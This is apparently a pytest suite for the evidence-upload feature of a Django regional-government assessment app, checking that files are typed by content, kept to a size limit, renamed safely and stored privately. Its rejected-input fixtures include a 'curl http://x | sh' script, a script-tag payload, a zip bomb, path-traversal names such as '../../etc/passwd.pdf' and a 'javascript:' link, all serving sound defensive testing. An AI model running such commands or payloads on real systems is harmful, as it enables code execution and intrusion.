"""Evidence files (bukti dukung): type by content, size, name, archive bombs, private storage.

Every refused file must leave nothing behind: no Evidence row, no file on disk, no audit event.
"""

import hashlib
import io
import re
import struct
import zipfile
import zlib

import pytest
from django.core.files.base import File
from django.core.files.uploadedfile import SimpleUploadedFile
from django.utils import translation

from assessments.choices import EventKind
from assessments.evidence import safe_file_name, validate_evidence_file
from assessments.exceptions import IncompleteAnswersError, WorkflowError
from assessments.models import Answer, AnswerEvent, Evidence, private_storage
from assessments.services import answer_save, answer_submit, evidence_add, evidence_remove


@pytest.fixture(autouse=True)
def english():
    with translation.override("en"):
        yield


@pytest.fixture
def private_root(settings, tmp_path, monkeypatch):
    """Evidence storage in a temporary folder.

    The file field builds its storage once, when the models are imported, so changing the
    setting alone does not move it: the field's storage is rebuilt from the new setting too.
    """
    root = tmp_path / "private"
    settings.PRIVATE_STORAGE_ROOT = root
    monkeypatch.setattr(Evidence._meta.get_field("file"), "storage", private_storage())
    return root


def stored_files(root) -> list:
    return [path for path in root.rglob("*") if path.is_file()] if root.exists() else []


# --------------------------------------------------------------------------- sample files

PDF = (
    b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n"
    b"2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\n"
    b"trailer<</Root 1 0 R>>\n%%EOF\n"
)


def png_bytes() -> bytes:
    """A real 1×1 PNG."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        body = kind + data
        return struct.pack(">I", len(data)) + body + struct.pack(">I", zlib.crc32(body))

    header = struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0)
    pixels = zlib.compress(b"\x00\xff\x00\x00")
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", pixels) + chunk(b"IEND", b"")
    )


def docx_bytes(*, extra: dict[str, bytes] | None = None) -> bytes:
    """A minimal Word document, built the way Word orders its parts."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(
            "[Content_Types].xml",
            '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/'
            'content-types"><Override PartName="/word/document.xml" ContentType="application/'
            'vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>',
        )
        archive.writestr(
            "_rels/.rels",
            '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/'
            'package/2006/relationships"/>',
        )
        archive.writestr(
            "word/document.xml",
            '<?xml version="1.0"?><w:document xmlns:w="http://schemas.openxmlformats.org/'
            'wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>SK Wali Kota</w:t></w:r></w:p>'
            "</w:body></w:document>",
        )
        for name, data in (extra or {}).items():
            archive.writestr(name, data)
    return buffer.getvalue()


CSV = "kode,indikator,nilai\nGOV-SVC-01,Layanan daring (%),87,5\nLIV-HEA-02,Puskesmas,ä\n".encode()

ACCEPTED = [
    ("laporan.pdf", PDF, "application/pdf"),
    ("foto-layanan.PNG", png_bytes(), "image/png"),
    (
        "sk-walikota.docx",
        docx_bytes(),
        "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
    ),
    ("data-layanan.csv", CSV, "text/csv"),
]

REFUSED = [
    pytest.param("laporan.pdf", b"#!/bin/sh\ncurl http://x | sh\n", "does not match", id="script"),
    pytest.param(
        "foto.png", b"<html><script>alert(1)</script></html>", "does not match", id="html-as-png"
    ),
    pytest.param("sk.docx", PDF, "does not match", id="pdf-as-docx"),
    pytest.param("data.csv", b"\x00\x01binary\x00", "does not match", id="binary-as-csv"),
    pytest.param("data.csv", PDF, "does not match", id="pdf-as-csv"),
    pytest.param("setup.exe", b"MZ\x90\x00", "not accepted", id="exe"),
    pytest.param("laporan.pdf.sh", PDF, "not accepted", id="double-extension"),
    pytest.param("kosong.pdf", b"", "empty", id="empty"),
    pytest.param(
        "bom.docx",
        docx_bytes(extra={"word/media/image1.bin": b"\x00" * 3_000_000}),
        "unreasonable size",
        id="zip-bomb",
    ),
    pytest.param("rusak.docx", docx_bytes()[:-30], "damaged", id="truncated-docx"),
]


# --------------------------------------------------------------------------- validation


@pytest.mark.parametrize(("name", "content", "content_type"), ACCEPTED)
def test_real_files_of_accepted_types_pass_validation(name, content, content_type):
    checked = validate_evidence_file(SimpleUploadedFile(name, content))

    assert checked.content_type == content_type
    assert checked.size == len(content)
    assert checked.sha256 == hashlib.sha256(content).hexdigest()


@pytest.mark.parametrize(("name", "content", "message"), REFUSED)
def test_files_whose_content_is_not_what_they_claim_are_refused(name, content, message):
    with pytest.raises(WorkflowError) as refused:
        validate_evidence_file(SimpleUploadedFile(name, content))

    assert message in refused.value.field_errors["file"][0]
    assert refused.value.message == refused.value.field_errors["file"][0]


def test_a_file_over_the_size_limit_is_refused(settings):
    settings.EVIDENCE_MAX_BYTES = 100

    with pytest.raises(WorkflowError) as refused:
        validate_evidence_file(SimpleUploadedFile("besar.pdf", PDF + b"%" * 100))

    assert "too large" in refused.value.field_errors["file"][0]
    assert "100\xa0bytes" in refused.value.field_errors["file"][0]


@pytest.mark.parametrize(
    ("raw", "safe"),
    [
        ("../../etc/passwd.pdf", "passwd.pdf"),
        ("..\\..\\x.pdf", "x.pdf"),
        ("C:\\Users\\op\\Desktop\\laporan.pdf", "laporan.pdf"),
        ("lapo\x00ran\n.pdf", "laporan.pdf"),
        ("..", "bukti"),
        ("a" * 300 + ".pdf", "a" * 146 + ".pdf"),
    ],
)
def test_file_names_are_reduced_to_a_safe_last_component(raw, safe):
    assert safe_file_name(raw) == safe


# --------------------------------------------------------------------------- evidence_add


@pytest.fixture
def answer(answers_a) -> Answer:
    return answers_a[0]


@pytest.mark.parametrize(("name", "content", "content_type"), ACCEPTED)
def test_an_accepted_file_is_stored_privately_with_its_hash_and_size(
    cast, answer, private_root, name, content, content_type
):
    evidence = evidence_add(
        actor=cast.operator_a, answer_id=answer.pk, file=SimpleUploadedFile(name, content)
    )

    evidence.refresh_from_db()
    assert evidence.original_name == name
    assert evidence.content_type == content_type
    assert evidence.size == len(content)
    assert evidence.sha256 == hashlib.sha256(content).hexdigest()
    assert evidence.uploaded_by == cast.operator_a
    [path] = stored_files(private_root)
    assert path.read_bytes() == content
    assert path == private_root / evidence.file.name


@pytest.mark.parametrize(("name", "content", "message"), REFUSED)
def test_a_refused_file_leaves_nothing_behind(cast, answer, private_root, name, content, message):
    with pytest.raises(WorkflowError) as refused:
        evidence_add(
            actor=cast.operator_a, answer_id=answer.pk, file=SimpleUploadedFile(name, content)
        )

    assert message in refused.value.field_errors["file"][0]
    assert not Evidence.objects.exists()
    assert stored_files(private_root) == []
    assert not AnswerEvent.objects.filter(answer=answer).exists()
    answer.refresh_from_db()
    assert answer.version == 1


def test_an_oversize_upload_leaves_nothing_behind(cast, answer, private_root, settings):
    settings.EVIDENCE_MAX_BYTES = 1024

    with pytest.raises(WorkflowError) as refused:
        evidence_add(
            actor=cast.operator_a,
            answer_id=answer.pk,
            file=SimpleUploadedFile("besar.pdf", PDF + b"0" * 2048),
        )

    assert "too large" in refused.value.field_errors["file"][0]
    assert not Evidence.objects.exists()
    assert stored_files(private_root) == []


@pytest.mark.parametrize(
    ("raw", "safe"),
    [
        ("../../etc/passwd.pdf", "passwd.pdf"),
        ("..\\..\\x.pdf", "x.pdf"),
        ("/var/www/y.pdf", "y.pdf"),
    ],
)
def test_a_path_traversal_name_is_stored_under_a_random_name_inside_the_root(
    cast, cycle, answer, private_root, raw, safe
):
    # A plain File keeps the raw name (an uploaded file would already have lost its folders),
    # so the service's own defence is what is tested here.
    upload = File(io.BytesIO(PDF), name=raw)

    evidence = evidence_add(actor=cast.operator_a, answer_id=answer.pk, file=upload)

    assert evidence.original_name == safe
    [path] = stored_files(private_root)
    assert path.resolve().is_relative_to(private_root.resolve())
    folder, random_name = evidence.file.name.rsplit("/", 1)
    assert folder == f"evidence/{cycle.pk}"
    assert re.fullmatch(r"[0-9a-f]{32}", random_name)
    assert safe.split(".")[0] not in evidence.file.name


def test_two_uploads_of_the_same_name_do_not_overwrite_each_other(cast, answer, private_root):
    for content in (PDF, PDF + b"% versi kedua\n"):
        evidence_add(
            actor=cast.operator_a,
            answer_id=answer.pk,
            file=SimpleUploadedFile("laporan.pdf", content),
        )

    assert sorted(path.read_bytes() for path in stored_files(private_root)) == sorted(
        [PDF, PDF + b"% versi kedua\n"]
    )


@pytest.mark.parametrize(
    ("kwargs", "field"),
    [
        ({}, "file"),
        ({"url": "https://x.go.id/a", "file": SimpleUploadedFile("a.pdf", PDF)}, "file"),
        ({"url": "javascript:alert(1)"}, "url"),
    ],
    ids=["neither", "both", "not-http"],
)
def test_evidence_needs_exactly_one_file_or_http_link(cast, answer, private_root, kwargs, field):
    with pytest.raises(WorkflowError) as refused:
        evidence_add(actor=cast.operator_a, answer_id=answer.pk, **kwargs)

    assert refused.value.field_errors[field]
    assert not Evidence.objects.exists()
    assert stored_files(private_root) == []


def test_a_link_is_recorded_as_evidence(cast, answer):
    evidence = evidence_add(
        actor=cast.operator_a, answer_id=answer.pk, url="  https://jdih.semarangkota.go.id/1  "
    )

    assert (evidence.url, evidence.file.name, evidence.is_file) == (
        "https://jdih.semarangkota.go.id/1",
        "",
        False,
    )


# --------------------------------------------------------------------------- removal


def test_removing_evidence_is_an_audited_soft_delete(cast, answer, private_root):
    evidence = evidence_add(
        actor=cast.operator_a, answer_id=answer.pk, file=SimpleUploadedFile("sop.pdf", PDF)
    )
    version = Answer.objects.get(pk=answer.pk).version

    evidence_remove(actor=cast.operator_a, evidence_id=evidence.pk)

    evidence.refresh_from_db()
    assert evidence.removed_at is not None
    assert len(stored_files(private_root)) == 1  # the file is kept for the audit trail
    event = AnswerEvent.objects.filter(answer=answer).order_by("pk").last()
    assert (event.kind, event.actor, event.old_value, event.new_value) == (
        EventKind.EVIDENCE_REMOVED,
        cast.operator_a,
        "sop.pdf",
        "",
    )
    assert Answer.objects.get(pk=answer.pk).version == version + 1
    with pytest.raises(Evidence.DoesNotExist):
        evidence_remove(actor=cast.operator_a, evidence_id=evidence.pk)


def test_removed_evidence_no_longer_counts_for_a_level_that_requires_it(cast, answer, private_root):
    answer_save(
        actor=cast.operator_a,
        answer_id=answer.pk,
        expected_version=1,
        self_level=2,
        justification="Sudah ada SK.",
    )
    evidence = evidence_add(
        actor=cast.operator_a, answer_id=answer.pk, file=SimpleUploadedFile("sk.pdf", PDF)
    )
    evidence_remove(actor=cast.operator_a, evidence_id=evidence.pk)

    with pytest.raises(IncompleteAnswersError) as refused:
        answer_submit(actor=cast.operator_a, answer_id=answer.pk)

    assert refused.value.missing[0]["missing"] == ["evidence (required at this level)"]
